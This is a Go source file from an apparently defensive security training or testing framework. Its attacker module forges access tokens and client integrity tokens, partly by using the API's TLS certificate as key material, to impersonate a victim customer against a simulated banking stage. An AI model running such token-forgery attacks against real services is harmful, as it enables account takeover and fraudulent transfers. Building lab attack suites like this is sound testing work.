package attacker

import (
	"context"
	"crypto/x509"
	"errors"
	"fmt"
	"time"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/forge"
	"keyladder/stages/catalog"
	"keyladder/stages/mechanism/integrity"
	"keyladder/stages/mechanism/token"
	"keyladder/stages/protect"
)

// inventedToken is like those of the stage's issuer, but for the key that signs it.
func inventedToken(g *attack.Given, caller *protect.Caller) (string, error) {
	issuer, err := caller.Issuer()
	if err != nil {
		return "", err
	}
	api, err := caller.URL("/v1")
	if err != nil {
		return "", err
	}
	now := time.Now().Truncate(time.Second)
	return token.NewKey().Sign(token.Claims{
		Issuer: issuer, Subject: g.User, Audience: []string{api.String()}, ClientID: "harbour-mobile",
		Issued: now, Expires: now.Add(time.Hour), ID: token.NewID(), Scope: "accounts:read transfers:write",
	})
}

// forgeIntegrity makes forgeries of a client integrity token, in the same ways as those of an access
// token: what is in one, and the name of its key, everybody can read in a token of their own.
func forgeIntegrity(g *attack.Given, caller *protect.Caller, server *x509.Certificate) ([]forge.Forgery, error) {
	api, err := caller.URL("/v1")
	if err != nil {
		return nil, err
	}
	now := time.Now().Truncate(time.Second)
	own, err := integrity.Sign(token.Key{ID: g.ClientID + "-servers", Secret: token.NewKey().Secret}, integrity.Claims{
		Issuer: g.Attestation + "/" + g.Stage.Slug, ClientID: g.ClientID, Audience: []string{api.String()},
		Issued: now, Expires: now.Add(time.Minute), ID: token.NewID(), Release: g.Stage.Package.Release, Level: string(g.Stage.Attestation.Level),
	})
	if err != nil {
		return nil, err
	}
	return forge.For(g.ClientID, own, server)
}

// tokenForge gets a token as any customer does, and makes others out of it that say that the
// user is the victim. A token carries with it what a server would have to look up otherwise,
// and even how it wants to be verified. All that keeps its bearer from changing that is that
// the server decides beforehand what it believes.
//
//keyladder:code attack-token-forge
func tokenForge(ctx context.Context, g *attack.Given) (attack.Result, error) {
	p, err := attack.NewProgram(g, protect.Identity{ClientID: g.ClientID})
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	refused := &attack.Refusal{}
	if err := p.Enter(ctx); err != nil && !errors.As(err, &refused) {
		return attack.Result{}, err
	}
	own, origin := p.Caller.Identity().Token, "Signed in as ourselves, and took our own token apart: header, claims, signature."
	if own == "" { // the issuer gives none to a program that it does not take for the app
		if own, err = inventedToken(g, p.Caller); err != nil {
			return attack.Result{}, err
		}
		origin = "The issuer gives no token to a program that it does not take for the app. Made one up, as the issuer's metadata and RFC 9068 say what is in one."
	}
	dressed, err := p.Caller.Dress(protect.Call{Path: "/v1/accounts"})
	if err != nil {
		return attack.Result{}, err
	}
	response, _, err := p.Send(ctx, dressed)
	if err != nil {
		return attack.Result{}, err
	}
	if response.TLS == nil || len(response.TLS.PeerCertificates) == 0 {
		return attack.Result{}, errors.New("the API showed no certificate whose public key could be tried")
	}
	forgeries, err := forge.For(aCustomer, own, response.TLS.PeerCertificates[0])
	if err != nil {
		return attack.Result{}, err
	}
	g.Say("%s Made %d tokens for %s out of it.", origin, len(forgeries), aCustomer)
	var apps []forge.Forgery // the n-th is made as the n-th for the user is
	if g.Stage.Call.AppProof == catalog.IntegrityToken {
		if apps, err = forgeIntegrity(g, p.Caller, response.TLS.PeerCertificates[0]); err != nil {
			return attack.Result{}, err
		}
		g.Say("Calls have to carry a client integrity token, too. Made %d of those in the same ways.", len(apps))
	}
	for i, forged := range forgeries {
		err = p.Show(func(as *protect.Identity) {
			if as.Token = forged.Token; len(apps) > 0 {
				as.Integrity = apps[i%len(apps)].Token
			}
		})
		if err != nil {
			return attack.Result{}, err
		}
		err = p.Rob(ctx)
		switch {
		case err == nil:
			g.Say("Served: %s.", forged.What)
			return attack.Result{Claim: true}, nil
		case !errors.As(err, &refused):
			return attack.Result{}, fmt.Errorf("%s: %w", forged.What, err)
		}
		g.Say("Refused: %s.", forged.What)
	}
	return attack.Stopped(err)
}
